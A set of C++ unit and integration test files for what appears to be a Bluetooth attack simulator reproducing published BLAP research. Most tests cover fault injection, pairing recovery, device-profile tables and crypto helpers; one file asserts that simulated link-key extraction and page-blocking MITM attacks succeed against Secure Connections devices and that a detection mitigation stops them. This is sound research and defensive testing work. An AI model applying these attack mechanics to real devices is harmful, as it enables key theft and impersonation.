DeviceSpec phone_spec(const std::string& name, const std::string& addr) {
  DeviceSpec spec;
  spec.name = name;
  spec.address = *BdAddr::parse(addr);
  spec.class_of_device = ClassOfDevice(ClassOfDevice::kMobilePhone);
  return spec;
}

// ---------------------------------------------------------------------------
// ChannelModel unit behaviour
// ---------------------------------------------------------------------------

TEST(FaultPlan, DefaultPlanIsDisabled) {
  faults::FaultPlan plan;
  EXPECT_FALSE(plan.enabled());
  plan.loss = 0.1;
  EXPECT_TRUE(plan.enabled());
  plan = {};
  plan.jam_windows.push_back({kSecond, 2 * kSecond});
  EXPECT_TRUE(plan.enabled());
  plan = {};
  plan.burst_enabled = true;
  EXPECT_TRUE(plan.enabled());
  plan = {};
  plan.corruption = 0.01;
  EXPECT_TRUE(plan.enabled());
}

TEST(ChannelModel, VerdictSequenceIsDeterministicPerSeedAndLink) {
  faults::FaultPlan plan;
  plan.seed = 7;
  plan.loss = 0.3;
  plan.corruption = 0.1;
  faults::ChannelModel x(plan, 1);
  faults::ChannelModel y(plan, 1);
  faults::ChannelModel other_link(plan, 2);
  bool any_difference = false;
  for (int i = 0; i < 256; ++i) {
    const auto vx = x.judge(static_cast<SimTime>(i) * kSlot);
    const auto vy = y.judge(static_cast<SimTime>(i) * kSlot);
    EXPECT_EQ(vx, vy) << "same plan + link id must replay identically";
    if (other_link.judge(static_cast<SimTime>(i) * kSlot) != vx) any_difference = true;
  }
  EXPECT_TRUE(any_difference) << "distinct links must draw from distinct streams";
}

TEST(ChannelModel, JamWindowDropsEverythingInsideAndNothingOutside) {
  faults::FaultPlan plan;
  plan.seed = 3;
  plan.jam_windows.push_back({10 * kSecond, 20 * kSecond});
  faults::ChannelModel channel(plan, 1);
  EXPECT_EQ(channel.judge(9 * kSecond), faults::FaultVerdict::kDeliver);
  EXPECT_EQ(channel.judge(10 * kSecond), faults::FaultVerdict::kDropJam);
  EXPECT_EQ(channel.judge(19 * kSecond), faults::FaultVerdict::kDropJam);
  EXPECT_EQ(channel.judge(20 * kSecond), faults::FaultVerdict::kDeliver);  // [begin, end)
}

TEST(ChannelModel, CorruptionFlipsBytesButKeepsLength) {
  faults::FaultPlan plan;
  plan.seed = 11;
  plan.corruption = 1.0;
  faults::ChannelModel channel(plan, 1);
  Bytes frame(16, 0xAA);
  const Bytes original = frame;
  ASSERT_EQ(channel.judge(0), faults::FaultVerdict::kCorrupt);
  channel.corrupt(frame);
  EXPECT_EQ(frame.size(), original.size());
  EXPECT_NE(frame, original);
}

// ---------------------------------------------------------------------------
// End-to-end recovery scenarios
// ---------------------------------------------------------------------------

class FaultRecovery : public ::testing::Test {
 protected:
  void SetUp() override {
    sim = std::make_unique<Simulation>(42);
    a = &sim->add_device(phone_spec("phone-A", "48:90:00:00:00:01"));
    b = &sim->add_device(phone_spec("phone-B", "00:1b:00:00:00:02"));
  }

  hci::Status pair(Device& initiator, Device& responder, int max_steps = 3000) {
    hci::Status result = hci::Status::kPageTimeout;
    bool done = false;
    initiator.host().pair(responder.address(), [&](hci::Status status) {
      result = status;
      done = true;
    });
    for (int i = 0; i < max_steps && !done; ++i) sim->run_for(100 * kMillisecond);
    EXPECT_TRUE(done) << "pairing never completed";
    return result;
  }

  std::unique_ptr<Simulation> sim;
  Device* a = nullptr;
  Device* b = nullptr;
};

TEST_F(FaultRecovery, PairingSurvivesModerateLossThroughArq) {
  auto& obs = sim->enable_observability({.tracing = false, .metrics = true});
  faults::FaultPlan plan;
  plan.seed = 5;
  plan.loss = 0.25;
  sim->set_fault_plan(plan);

  EXPECT_EQ(pair(*a, *b), hci::Status::kSuccess);
  EXPECT_TRUE(a->host().security().is_bonded(b->address()));
  EXPECT_TRUE(b->host().security().is_bonded(a->address()));
  // The channel really did bite, and the ARQ really did repair it.
  const auto snapshot = obs.snapshot();
  EXPECT_GE(snapshot.counters.at("radio.faults.loss"), 1u);
  EXPECT_GE(snapshot.counters.at("arq.retransmissions"), 1u);
}

TEST_F(FaultRecovery, LmpResponseTimeoutMidPairingTearsDownCleanly) {
  // Raise supervision above the 30 s LMP response timeout so the LMP timer
  // is what fires, push the host's idle-ACL reaper out of the way, and
  // disable host retries so the raw reason surfaces. (Devices were already
  // built, so rebuild the simulation with tweaked specs.)
  sim = std::make_unique<Simulation>(43);
  DeviceSpec sa = phone_spec("phone-A", "48:90:00:00:00:01");
  DeviceSpec sb = phone_spec("phone-B", "00:1b:00:00:00:02");
  sa.controller.supervision_timeout = 60 * kSecond;
  sb.controller.supervision_timeout = 60 * kSecond;
  sa.host.acl_idle_timeout = 600 * kSecond;
  sb.host.acl_idle_timeout = 600 * kSecond;
  a = &sim->add_device(sa);
  b = &sim->add_device(sb);
  a->host().security().set_retry_policy({.max_attempts = 1, .initial_backoff = kSecond});

  hci::Status result = hci::Status::kSuccess;
  bool done = false;
  a->host().pair(b->address(), [&](hci::Status status) {
    result = status;
    done = true;
  });
  // Let the ACL come up and the LMP authentication get in flight, then kill
  // the channel mid-pairing so the 30 s LMP response timer is what trips.
  for (int i = 0; i < 500 && !a->host().has_acl(b->address()); ++i)
    sim->run_for(10 * kMillisecond);
  ASSERT_TRUE(a->host().has_acl(b->address()));
  ASSERT_FALSE(done) << "pairing finished before the fault landed";
  faults::FaultPlan blackout;
  blackout.seed = 9;
  blackout.loss = 1.0;
  sim->set_fault_plan(blackout);

  for (int i = 0; i < 1200 && !done; ++i) sim->run_for(100 * kMillisecond);
  ASSERT_TRUE(done);
  EXPECT_EQ(result, hci::Status::kLmpResponseTimeout);
  // Clean teardown: no half-open op, no surviving ACL on either side.
  sim->run_for(5 * kSecond);
  EXPECT_FALSE(a->host().has_acl(b->address()));
  EXPECT_FALSE(b->host().has_acl(a->address()));

  // Heal the channel: both stacks are reusable and the pairing now lands.
  sim->set_fault_plan({});
  EXPECT_EQ(pair(*a, *b), hci::Status::kSuccess);
}

TEST_F(FaultRecovery, ConnectionAcceptTimeoutWhenHostIgnoresRequest) {
  b->host().hooks().ignore_connection_request = true;

  hci::Status result = hci::Status::kSuccess;
  bool done = false;
  a->host().connect_only(b->address(), [&](hci::Status status) {
    result = status;
    done = true;
  });
  for (int i = 0; i < 200 && !done; ++i) sim->run_for(100 * kMillisecond);
  ASSERT_TRUE(done);
  EXPECT_EQ(result, hci::Status::kConnectionAcceptTimeout);
  EXPECT_FALSE(a->host().has_acl(b->address()));
  EXPECT_FALSE(b->host().has_acl(a->address()));

  // Un-wedge the host: the same pair of stacks connects fine.
  b->host().hooks().ignore_connection_request = false;
  EXPECT_EQ(pair(*a, *b), hci::Status::kSuccess);
}

TEST_F(FaultRecovery, SupervisionTimeoutTearsDownUnderTotalLoss) {
  // The host reaps idle ACLs after 15 s, which would beat the 20 s
  // supervision timer to the kill — push it out so the baseband verdict
  // is the one under test.
  sim = std::make_unique<Simulation>(42);
  DeviceSpec sa = phone_spec("phone-A", "48:90:00:00:00:01");
  DeviceSpec sb = phone_spec("phone-B", "00:1b:00:00:00:02");
  sa.host.acl_idle_timeout = 600 * kSecond;
  sb.host.acl_idle_timeout = 600 * kSecond;
  auto& obs = sim->enable_observability({.tracing = false, .metrics = true});
  a = &sim->add_device(sa);
  b = &sim->add_device(sb);
  ASSERT_EQ(pair(*a, *b), hci::Status::kSuccess);
  ASSERT_TRUE(a->host().has_acl(b->address()));

  // The jammer arrives after pairing: 100 % loss on the live link. Nothing
  // gets through, so both supervision timers expire and each side reports
  // HCI_Disconnection_Complete with Connection Timeout — not a failure code
  // that would purge the bond.
  faults::FaultPlan blackout;
  blackout.seed = 17;
  blackout.loss = 1.0;
  sim->set_fault_plan(blackout);
  sim->run_for(30 * kSecond);

  EXPECT_FALSE(a->host().has_acl(b->address()));
  EXPECT_FALSE(b->host().has_acl(a->address()));
  EXPECT_TRUE(a->host().security().is_bonded(b->address()));
  EXPECT_TRUE(b->host().security().is_bonded(a->address()));
  EXPECT_GE(obs.snapshot().counters.at("controller.supervision_timeouts"), 1u);

  // Heal and re-pair over the stored bond: both stacks stayed reusable.
  sim->set_fault_plan({});
  EXPECT_EQ(pair(*a, *b), hci::Status::kSuccess);
}

TEST_F(FaultRecovery, HostRetriesPairingAfterJamWindowHeals) {
  auto& obs = sim->enable_observability({.tracing = false, .metrics = true});
  // Jam the first ~25 s of air time. The first pairing attempt dies on a
  // timeout; the host's retry-with-backoff lands once the jam lifts.
  faults::FaultPlan plan;
  plan.seed = 23;
  plan.jam_windows.push_back({0, 25 * kSecond});
  sim->set_fault_plan(plan);

  EXPECT_EQ(pair(*a, *b), hci::Status::kSuccess);
  EXPECT_GE(obs.snapshot().counters.at("host.pairing_retries"), 1u);
  EXPECT_TRUE(a->host().security().is_bonded(b->address()));
}

// ---------------------------------------------------------------------------
// Byte-identity of the disabled plan
// ---------------------------------------------------------------------------

TEST(FaultFreeIdentity, DisabledPlanLeavesMetricsByteIdentical) {
  // Same scenario twice: once never touching the fault API, once installing
  // a default-constructed FaultPlan. Metrics fold in event counts and queue
  // depths, so any stray scheduled event would show up here.
  auto run = [](bool install_empty_plan) {
    Simulation sim(77);
    auto& obs = sim.enable_observability({.tracing = false, .metrics = true});
    if (install_empty_plan) sim.set_fault_plan(faults::FaultPlan{});
    Device& a = sim.add_device(phone_spec("phone-A", "48:90:00:00:00:01"));
    Device& b = sim.add_device(phone_spec("phone-B", "00:1b:00:00:00:02"));
    bool done = false;
    a.host().pair(b.address(), [&](hci::Status) { done = true; });
    for (int i = 0; i < 400 && !done; ++i) sim.run_for(100 * kMillisecond);
    EXPECT_TRUE(done);
    return obs.snapshot().to_json();
  };
  EXPECT_EQ(run(false), run(true));
}

}  // namespace
}  // namespace blap::core
