// Both BLAP attacks against Secure Connections devices: upgrading the
// cryptography does NOT help, because neither attack goes through the
// cryptography — extraction reads the key off the HCI, and page blocking
// exploits the connection/pairing role split. This is the paper's implicit
// claim ("standard-compliant ... above the controller layer") made explicit.
#include <gtest/gtest.h>

#include "core/link_key_extraction.hpp"
#include "core/page_blocking.hpp"
#include "core/profiles.hpp"

namespace blap::core {
namespace {

struct Scenario {
  std::unique_ptr<Simulation> sim;
  Device* attacker = nullptr;
  Device* accessory = nullptr;
  Device* target = nullptr;
};

Scenario make_sc_scenario(std::uint64_t seed) {
  Scenario s;
  s.sim = std::make_unique<Simulation>(seed);
  DeviceSpec a = attacker_profile().to_spec("attacker", *BdAddr::parse("aa:aa:aa:00:00:01"));
  a.controller.secure_connections = true;  // even the attacker speaks SC
  DeviceSpec c = table1_profiles()[5].to_spec("s21-accessory", *BdAddr::parse("00:1b:7d:da:71:0a"),
                                              ClassOfDevice(ClassOfDevice::kHandsFree));
  c.controller.secure_connections = true;
  DeviceSpec m = table2_profiles()[6].to_spec("s21-victim", *BdAddr::parse("48:90:12:34:56:78"));
  m.controller.secure_connections = true;
  s.attacker = &s.sim->add_device(a);
  s.accessory = &s.sim->add_device(c);
  s.target = &s.sim->add_device(m);
  return s;
}

TEST(AttacksVsSecureConnections, ExtractionStillSucceedsOnP256Bonds) {
  Scenario s = make_sc_scenario(140);
  const auto report =
      LinkKeyExtractionAttack::run(*s.sim, *s.attacker, *s.accessory, *s.target, {});
  EXPECT_TRUE(report.bonded_precondition);
  // The bond is a P-256 authenticated key...
  const auto* bond = s.accessory->host().security().bond_for(s.target->address());
  ASSERT_NE(bond, nullptr);
  EXPECT_EQ(bond->key_type, crypto::LinkKeyType::kAuthenticatedCombinationP256);
  // ...and it leaks through the HCI all the same.
  EXPECT_TRUE(report.key_extracted);
  EXPECT_TRUE(report.key_matches_bond);
  EXPECT_TRUE(report.c_bond_survived);
  EXPECT_TRUE(report.impersonation_succeeded);
}

TEST(AttacksVsSecureConnections, ExtractionStallWorksAgainstScAuthentication) {
  // The stall targets the SC challenge (kAuRandSc) instead of the legacy
  // one; the drop is still a timeout, never an authentication failure.
  Scenario s = make_sc_scenario(141);
  const auto report =
      LinkKeyExtractionAttack::run(*s.sim, *s.attacker, *s.accessory, *s.target, {});
  EXPECT_NE(report.c_auth_status, hci::Status::kAuthenticationFailure);
  EXPECT_NE(report.c_auth_status, hci::Status::kPinOrKeyMissing);
  EXPECT_TRUE(report.c_bond_survived);
}

TEST(AttacksVsSecureConnections, PageBlockingStillSucceedsAgainstScVictim) {
  Scenario s = make_sc_scenario(142);
  s.accessory->host().config().io_capability = hci::IoCapability::kNoInputNoOutput;
  const auto report =
      PageBlockingAttack::run(*s.sim, *s.attacker, *s.accessory, *s.target, {});
  EXPECT_TRUE(report.mitm_established);
  // The downgrade even produces an *unauthenticated P-256* key — Secure
  // Connections crypto wrapped around a Just Works association.
  const auto* bond = s.target->host().security().bond_for(s.accessory->address());
  ASSERT_NE(bond, nullptr);
  EXPECT_EQ(bond->key_type, crypto::LinkKeyType::kUnauthenticatedCombinationP256);
  EXPECT_TRUE(report.downgraded_to_just_works);
  EXPECT_EQ(report.m_flow, PairingFlow::kPageBlocked);
}

TEST(AttacksVsSecureConnections, MitigationsStillWorkUnderSc) {
  // The §VII defenses are orthogonal to the crypto level too.
  Scenario s = make_sc_scenario(143);
  s.target->host().config().detect_page_blocking = true;
  s.accessory->host().config().io_capability = hci::IoCapability::kNoInputNoOutput;
  const auto report =
      PageBlockingAttack::run(*s.sim, *s.attacker, *s.accessory, *s.target, {});
  EXPECT_FALSE(report.mitm_established);
  EXPECT_GT(s.target->host().detected_page_blocking_count(), 0);
}

}  // namespace
}  // namespace blap::core
