// Unit tests for the device-profile catalog and the race-bias calibration.
#include <gtest/gtest.h>

#include "core/profiles.hpp"

namespace blap::core {
namespace {

TEST(Profiles, Table1HasNineRows) {
  EXPECT_EQ(table1_profiles().size(), 9u);
}

TEST(Profiles, Table1SuColumnMatchesPaper) {
  // Only the Ubuntu/BlueZ row requires superuser privilege.
  int su_rows = 0;
  for (const auto& profile : table1_profiles()) {
    if (profile.su_required) {
      ++su_rows;
      EXPECT_EQ(profile.os, "Ubuntu 20.04");
      EXPECT_EQ(profile.host_stack, "BlueZ");
    }
  }
  EXPECT_EQ(su_rows, 1);
}

TEST(Profiles, Table1WindowsRowsLackHciDump) {
  for (const auto& profile : table1_profiles()) {
    if (profile.os == "Windows 10") {
      EXPECT_FALSE(profile.hci_dump_available) << profile.host_stack;
      EXPECT_EQ(profile.transport, TransportKind::kUsb);
    }
    if (profile.host_stack == "Bluedroid") {
      EXPECT_TRUE(profile.hci_dump_available) << profile.model;
      EXPECT_EQ(profile.transport, TransportKind::kUart);
    }
  }
}

TEST(Profiles, Table2HasSevenVictims) {
  EXPECT_EQ(table2_profiles().size(), 7u);
}

TEST(Profiles, Table2BaselinesMatchPaperNumbers) {
  const std::vector<std::pair<std::string, double>> expected = {
      {"iPhone Xs", 0.52}, {"Nexus 5x", 0.52},  {"LG V50", 0.57},    {"Galaxy S8", 0.42},
      {"Pixel 2 XL", 0.60}, {"LG VELVET", 0.60}, {"Galaxy s21", 0.51},
  };
  ASSERT_EQ(table2_profiles().size(), expected.size());
  for (std::size_t i = 0; i < expected.size(); ++i) {
    EXPECT_EQ(table2_profiles()[i].model, expected[i].first);
    EXPECT_DOUBLE_EQ(table2_profiles()[i].baseline_mitm_success, expected[i].second);
  }
}

TEST(Profiles, Table2BaselinesInPaperBand) {
  for (const auto& profile : table2_profiles()) {
    EXPECT_GE(profile.baseline_mitm_success, 0.42);
    EXPECT_LE(profile.baseline_mitm_success, 0.60);
  }
}

TEST(Profiles, NexusVictimIsV42Regime) {
  // The Android 8 Nexus row exercises the pre-5.0 silent-confirm behavior.
  EXPECT_EQ(table2_profiles()[1].version, host::BtVersion::kV4_2);
  EXPECT_EQ(table2_profiles()[4].version, host::BtVersion::kV5_0);
}

TEST(Profiles, ToSpecCarriesFields) {
  const auto spec = table1_profiles()[6].to_spec("pc", *BdAddr::parse("11:22:33:44:55:66"));
  EXPECT_EQ(spec.name, "pc");
  EXPECT_EQ(spec.transport, TransportKind::kUsb);
  EXPECT_FALSE(spec.host.hci_dump_available);
}

TEST(RaceBias, FiftyPercentGivesEqualIntervals) {
  const SimTime a = 1'280'000;
  EXPECT_EQ(accessory_interval_for_bias(0.5, a), a);
}

TEST(RaceBias, LowBiasShortensAccessoryInterval) {
  const SimTime a = 1'280'000;
  // p = 0.42: P(A first) = c/(2a) => c = 0.84 a.
  const SimTime c = accessory_interval_for_bias(0.42, a);
  EXPECT_EQ(c, static_cast<SimTime>(0.84 * 1'280'000));
  EXPECT_LT(c, a);
}

TEST(RaceBias, HighBiasLengthensAccessoryInterval) {
  const SimTime a = 1'280'000;
  // p = 0.60: c = a / (2 * 0.4) = 1.25 a.
  const SimTime c = accessory_interval_for_bias(0.60, a);
  EXPECT_EQ(c, static_cast<SimTime>(1.25 * 1'280'000));
  EXPECT_GT(c, a);
}

TEST(RaceBias, AnalyticProbabilityRecovered) {
  // Closed-form sanity: with the computed interval, P(A first) == p.
  const double a = 1'280'000;
  for (double p : {0.42, 0.51, 0.52, 0.57, 0.60}) {
    const double c = static_cast<double>(accessory_interval_for_bias(p, static_cast<SimTime>(a)));
    const double recovered = (c <= a) ? c / (2 * a) : 1 - a / (2 * c);
    EXPECT_NEAR(recovered, p, 0.001) << p;
  }
}

// Monte-Carlo confirmation of the analytic model for every Table II victim.
class RaceBiasMonteCarlo : public ::testing::TestWithParam<std::size_t> {};

TEST_P(RaceBiasMonteCarlo, EmpiricalRateMatchesTarget) {
  const double target = table2_profiles()[GetParam()].baseline_mitm_success;
  const SimTime a = 1'280'000;
  const SimTime c = accessory_interval_for_bias(target, a);
  Rng rng(GetParam() * 977 + 1);
  int a_wins = 0;
  const int trials = 20'000;
  for (int t = 0; t < trials; ++t) {
    const SimTime la = 1 + rng.uniform(a);
    const SimTime lc = 1 + rng.uniform(c);
    if (la < lc) ++a_wins;
  }
  EXPECT_NEAR(a_wins / static_cast<double>(trials), target, 0.01);
}

INSTANTIATE_TEST_SUITE_P(AllVictims, RaceBiasMonteCarlo, ::testing::Range<std::size_t>(0, 7));

}  // namespace
}  // namespace blap::core
