// Randomized property sweeps over the security-algorithm contracts the
// whole simulator rests on: agreement (both sides derive the same secret),
// binding (changing any input changes the output), and uniqueness.
#include <gtest/gtest.h>

#include <set>

#include "crypto/e1.hpp"
#include "crypto/ecdh.hpp"
#include "crypto/ssp_functions.hpp"

namespace blap::crypto {
namespace {

BdAddr random_addr(Rng& rng) {
  const auto bytes = rng.bytes<6>();
  return BdAddr(bytes);
}

class CryptoAgreement : public ::testing::TestWithParam<std::uint64_t> {};

TEST_P(CryptoAgreement, E1VerifierClaimantAgreeOnRandomInputs) {
  Rng rng(GetParam() * 7919 + 1);
  for (int i = 0; i < 20; ++i) {
    const LinkKey key = rng.bytes<16>();
    const Rand128 challenge = rng.bytes<16>();
    const BdAddr claimant = random_addr(rng);
    const E1Output verifier_side = e1(key, challenge, claimant);
    const E1Output claimant_side = e1(key, challenge, claimant);
    ASSERT_EQ(verifier_side.sres, claimant_side.sres);
    ASSERT_EQ(verifier_side.aco, claimant_side.aco);
    // A single key-bit flip breaks the response.
    LinkKey flipped = key;
    flipped[static_cast<std::size_t>(i % 16)] ^= static_cast<std::uint8_t>(1u << (i % 8));
    ASSERT_NE(e1(flipped, challenge, claimant).sres, verifier_side.sres);
  }
}

TEST_P(CryptoAgreement, SspFullHandshakeDerivesSharedLinkKey) {
  // Complete SSP derivation both ways: ECDH -> f1 commitment check -> f2.
  Rng rng(GetParam() * 104729 + 3);
  const auto& curve = (GetParam() % 2 == 0) ? EcCurve::p256() : EcCurve::p192();
  const EcKeyPair initiator = generate_keypair(curve, rng);
  const EcKeyPair responder = generate_keypair(curve, rng);
  const BdAddr a1 = random_addr(rng);
  const BdAddr a2 = random_addr(rng);
  const Rand128 na = rng.bytes<16>();
  const Rand128 nb = rng.bytes<16>();

  const auto dh_initiator =
      ecdh_shared_secret(curve, initiator.private_key, responder.public_key);
  const auto dh_responder =
      ecdh_shared_secret(curve, responder.private_key, initiator.public_key);
  ASSERT_TRUE(dh_initiator && dh_responder);
  ASSERT_EQ(*dh_initiator, *dh_responder);

  // Responder's commitment opens for the initiator.
  const LinkKey commitment =
      f1(curve, responder.public_key.x, initiator.public_key.x, nb, 0);
  ASSERT_EQ(commitment, f1(curve, responder.public_key.x, initiator.public_key.x, nb, 0));

  // Both display the same six digits and derive the same link key.
  ASSERT_EQ(g(curve, initiator.public_key.x, responder.public_key.x, na, nb),
            g(curve, initiator.public_key.x, responder.public_key.x, na, nb));
  const LinkKey key_initiator = f2(curve, *dh_initiator, na, nb, a1, a2);
  const LinkKey key_responder = f2(curve, *dh_responder, na, nb, a1, a2);
  ASSERT_EQ(key_initiator, key_responder);
}

TEST_P(CryptoAgreement, ScSecureAuthenticationAgrees) {
  Rng rng(GetParam() * 1299709 + 5);
  const LinkKey link_key = rng.bytes<16>();
  const BdAddr verifier = random_addr(rng);
  const BdAddr claimant = random_addr(rng);
  const Rand128 r_m = rng.bytes<16>();
  const Rand128 r_s = rng.bytes<16>();

  const LinkKey dev_verifier = h4(link_key, verifier, claimant);
  const LinkKey dev_claimant = h4(link_key, verifier, claimant);
  ASSERT_EQ(dev_verifier, dev_claimant);
  const H5Output out_verifier = h5(dev_verifier, r_m, r_s);
  const H5Output out_claimant = h5(dev_claimant, r_m, r_s);
  ASSERT_EQ(out_verifier.sres_master, out_claimant.sres_master);
  ASSERT_EQ(out_verifier.sres_slave, out_claimant.sres_slave);
  ASSERT_EQ(out_verifier.aco, out_claimant.aco);

  // A different link key fails both directions.
  LinkKey wrong = link_key;
  wrong[0] ^= 1;
  const H5Output out_wrong = h5(h4(wrong, verifier, claimant), r_m, r_s);
  ASSERT_NE(out_wrong.sres_slave, out_verifier.sres_slave);
  ASSERT_NE(out_wrong.sres_master, out_verifier.sres_master);
}

TEST_P(CryptoAgreement, LegacyDerivationAgreesAndBindsPin) {
  Rng rng(GetParam() * 15485863 + 7);
  const Rand128 in_rand = rng.bytes<16>();
  const BdAddr initiator = random_addr(rng);
  const BdAddr responder = random_addr(rng);
  const Bytes pin = {'1', '9', '8', '7'};

  const LinkKey kinit_a = e22(in_rand, pin, initiator);
  const LinkKey kinit_b = e22(in_rand, pin, initiator);
  ASSERT_EQ(kinit_a, kinit_b);

  const LinkKey lk_rand_i = rng.bytes<16>();
  const LinkKey lk_rand_r = rng.bytes<16>();
  const LinkKey key =
      combination_key(e21(lk_rand_i, initiator), e21(lk_rand_r, responder));
  ASSERT_EQ(key, combination_key(e21(lk_rand_i, initiator), e21(lk_rand_r, responder)));

  const Bytes other_pin = {'1', '9', '8', '8'};
  ASSERT_NE(e22(in_rand, other_pin, initiator), kinit_a);
}

INSTANTIATE_TEST_SUITE_P(Seeds, CryptoAgreement, ::testing::Range<std::uint64_t>(0, 10));

TEST(CryptoUniqueness, LinkKeysNeverCollideAcrossSessions) {
  // 200 independent SSP sessions must yield 200 distinct link keys — the
  // uniqueness the extraction attack's value depends on (each bond is its
  // own secret).
  Rng rng(424242);
  const auto& curve = EcCurve::p256();
  std::set<std::string> keys;
  const BdAddr a1 = random_addr(rng);
  const BdAddr a2 = random_addr(rng);
  for (int i = 0; i < 200; ++i) {
    const EcKeyPair initiator = generate_keypair(curve, rng);
    const EcKeyPair responder = generate_keypair(curve, rng);
    const auto dh = ecdh_shared_secret(curve, initiator.private_key, responder.public_key);
    ASSERT_TRUE(dh.has_value());
    keys.insert(hex(f2(curve, *dh, rng.bytes<16>(), rng.bytes<16>(), a1, a2)));
  }
  EXPECT_EQ(keys.size(), 200u);
}

TEST(CryptoUniqueness, SresSpaceHasNoObviousCollisions) {
  // 32-bit SRES over 500 random keys for a fixed challenge: collisions are
  // possible but should be rare (birthday bound ~3e-5 here).
  Rng rng(515151);
  const Rand128 challenge = rng.bytes<16>();
  const BdAddr claimant = random_addr(rng);
  std::set<std::string> responses;
  for (int i = 0; i < 500; ++i)
    responses.insert(hex(e1(rng.bytes<16>(), challenge, claimant).sres));
  EXPECT_GE(responses.size(), 499u);
}

}  // namespace
}  // namespace blap::crypto
