// Unit tests for the byte-buffer utilities every protocol layer builds on.
#include <gtest/gtest.h>

#include "common/bytes.hpp"

namespace blap {
namespace {

TEST(Hex, EncodesLowercaseWithoutSeparators) {
  const Bytes data = {0x0b, 0x04, 0x16, 0xff, 0x00};
  EXPECT_EQ(hex(data), "0b0416ff00");
}

TEST(Hex, EncodesEmpty) {
  EXPECT_EQ(hex(Bytes{}), "");
  EXPECT_EQ(hex_pretty(Bytes{}), "");
}

TEST(Hex, PrettyUsesSingleSpaces) {
  const Bytes data = {0x0b, 0x04, 0x16};
  EXPECT_EQ(hex_pretty(data), "0b 04 16");
}

TEST(Unhex, RoundTripsPlainHex) {
  const Bytes data = {0x71, 0xbb, 0x87, 0xce, 0xcb};
  EXPECT_EQ(unhex(hex(data)), data);
}

TEST(Unhex, AcceptsSpacesAndColonsAndMixedCase) {
  EXPECT_EQ(unhex("0B 04:16"), (Bytes{0x0b, 0x04, 0x16}));
}

TEST(Unhex, RejectsOddDigitCount) { EXPECT_FALSE(unhex("0b0").has_value()); }

TEST(Unhex, RejectsNonHexCharacters) { EXPECT_FALSE(unhex("0g").has_value()); }

TEST(Unhex, RejectsSeparatorInsideByte) { EXPECT_FALSE(unhex("0 b").has_value()); }

TEST(Hexdump, FormatsOffsetsHexAndAscii) {
  Bytes data;
  for (int i = 0; i < 20; ++i) data.push_back(static_cast<std::uint8_t>('A' + i));
  const std::string dump = hexdump(data);
  EXPECT_NE(dump.find("00000000"), std::string::npos);
  EXPECT_NE(dump.find("00000010"), std::string::npos);
  EXPECT_NE(dump.find("|ABCDEFGHIJKLMNOP|"), std::string::npos);
}

TEST(CtEqual, MatchesEqualBuffers) {
  const Bytes a = {1, 2, 3};
  EXPECT_TRUE(ct_equal(a, a));
}

TEST(CtEqual, RejectsDifferentContent) {
  EXPECT_FALSE(ct_equal(Bytes{1, 2, 3}, Bytes{1, 2, 4}));
}

TEST(CtEqual, RejectsDifferentLength) {
  EXPECT_FALSE(ct_equal(Bytes{1, 2, 3}, Bytes{1, 2}));
}

TEST(ByteReader, ReadsLittleEndianIntegers) {
  const Bytes data = {0x04, 0x0b, 0x78, 0x56, 0x34, 0x12};
  ByteReader r(data);
  EXPECT_EQ(r.u16(), 0x0b04);
  EXPECT_EQ(r.u32(), 0x12345678u);
  EXPECT_TRUE(r.empty());
}

TEST(ByteReader, ReadsBigEndianIntegers) {
  const Bytes data = {0x12, 0x34, 0x56, 0x78};
  ByteReader r(data);
  EXPECT_EQ(r.u32be(), 0x12345678u);
}

TEST(ByteReader, Reads64BitBothEndiannesses) {
  const Bytes le = {0xef, 0xcd, 0xab, 0x89, 0x67, 0x45, 0x23, 0x01};
  ByteReader r1(le);
  EXPECT_EQ(r1.u64(), 0x0123456789abcdefULL);
  ByteReader r2(le);
  EXPECT_EQ(r2.u64be(), 0xefcdab8967452301ULL);
}

TEST(ByteReader, ReturnsNulloptOnUnderflow) {
  const Bytes data = {0x01};
  ByteReader r(data);
  EXPECT_FALSE(r.u16().has_value());
  // A failed read consumes nothing.
  EXPECT_EQ(r.u8(), 0x01);
}

TEST(ByteReader, FixedArrayRead) {
  const Bytes data = {1, 2, 3, 4};
  ByteReader r(data);
  auto arr = r.array<3>();
  ASSERT_TRUE(arr.has_value());
  EXPECT_EQ((*arr)[2], 3);
  EXPECT_EQ(r.remaining(), 1u);
  EXPECT_FALSE(r.array<2>().has_value());
}

TEST(ByteReader, SkipAndRest) {
  const Bytes data = {1, 2, 3, 4, 5};
  ByteReader r(data);
  EXPECT_TRUE(r.skip(2));
  EXPECT_EQ(r.rest().size(), 3u);
  EXPECT_FALSE(r.skip(4));
  EXPECT_EQ(r.position(), 2u);
}

TEST(ByteWriter, WritesLittleEndian) {
  ByteWriter w;
  w.u16(0x0b04).u8(0x16).u32(0x12345678);
  EXPECT_EQ(hex(w.data()), "040b1678563412");
}

TEST(ByteWriter, WritesBigEndian) {
  ByteWriter w;
  w.u32be(0x12345678).u64be(0x0102030405060708ULL);
  EXPECT_EQ(hex(w.data()), "123456780102030405060708");
}

TEST(ByteWriter, RoundTripsThroughReader) {
  ByteWriter w;
  w.u8(0xAA).u16(0xBEEF).u32(0xDEADBEEF).u64(0x1122334455667788ULL);
  ByteReader r(w.data());
  EXPECT_EQ(r.u8(), 0xAA);
  EXPECT_EQ(r.u16(), 0xBEEF);
  EXPECT_EQ(r.u32(), 0xDEADBEEFu);
  EXPECT_EQ(r.u64(), 0x1122334455667788ULL);
  EXPECT_TRUE(r.empty());
}

// Property sweep: hex round-trip over many deterministic buffers.
class HexRoundTrip : public ::testing::TestWithParam<std::size_t> {};

TEST_P(HexRoundTrip, RoundTrips) {
  Bytes data;
  for (std::size_t i = 0; i < GetParam(); ++i)
    data.push_back(static_cast<std::uint8_t>(i * 37 + 11));
  EXPECT_EQ(unhex(hex(data)), data);
  EXPECT_EQ(unhex(hex_pretty(data)), data);
}

INSTANTIATE_TEST_SUITE_P(Sizes, HexRoundTrip,
                         ::testing::Values(0, 1, 2, 15, 16, 17, 255, 1024));

}  // namespace
}  // namespace blap
