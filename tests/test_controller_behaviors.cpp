// Controller-level edge-case tests: connection rejection, accept timeouts,
// invalid public keys, identity spoofing, and the LMP-stall teardown the
// extraction attack exploits.
#include <gtest/gtest.h>

#include "core/air_analysis.hpp"
#include "core/device.hpp"

namespace blap::core {
namespace {

DeviceSpec spec(const std::string& name, const std::string& addr) {
  DeviceSpec s;
  s.name = name;
  s.address = *BdAddr::parse(addr);
  return s;
}

TEST(ControllerBehavior, RejectedConnectionReportsToInitiator) {
  Simulation sim(80);
  Device& a = sim.add_device(spec("a", "00:00:00:00:00:01"));
  Device& b = sim.add_device(spec("b", "00:00:00:00:00:02"));
  b.host().config().auto_accept_connections = false;

